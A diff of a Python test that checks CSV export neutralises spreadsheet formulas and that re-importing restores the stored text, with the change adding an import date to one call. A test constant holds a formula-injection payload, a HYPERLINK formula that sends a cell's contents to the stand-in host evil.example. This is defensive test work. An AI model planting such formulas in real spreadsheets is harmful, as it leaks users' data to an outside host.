@@ -17,7 +17,7 @@ from data_access.importers.export import export_tables
 from data_access.importers.workbook import read_file
 from data_access.importers.writer import import_files
 from data_access.scope import Scope
-from tests.importers_support import BASE_FILES, do_import
+from tests.importers_support import BASE_FILES, IMPORT_DAY, do_import
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
 
@@ -60,6 +60,6 @@ def test_export_protects_the_text_and_import_restores_it(session, tmp_path):
 
     # importing the export back finds every value equal to the stored one: the apostrophes went
     files = [read_file(p.read_bytes(), p.name) for p in sorted(tmp_path.glob("*.csv"))]
-    assert import_files(session, files, user="t", scope=Scope.organisation()).outcome == "unchanged"
+    assert import_files(session, files, user="t", scope=Scope.organisation(), as_of=IMPORT_DAY).outcome == "unchanged"
     stored = session.execute(select(m.Risk.description, m.Risk.mitigation)).one()
     assert tuple(stored) == (HOSTILE, "@SUM(1+1)")
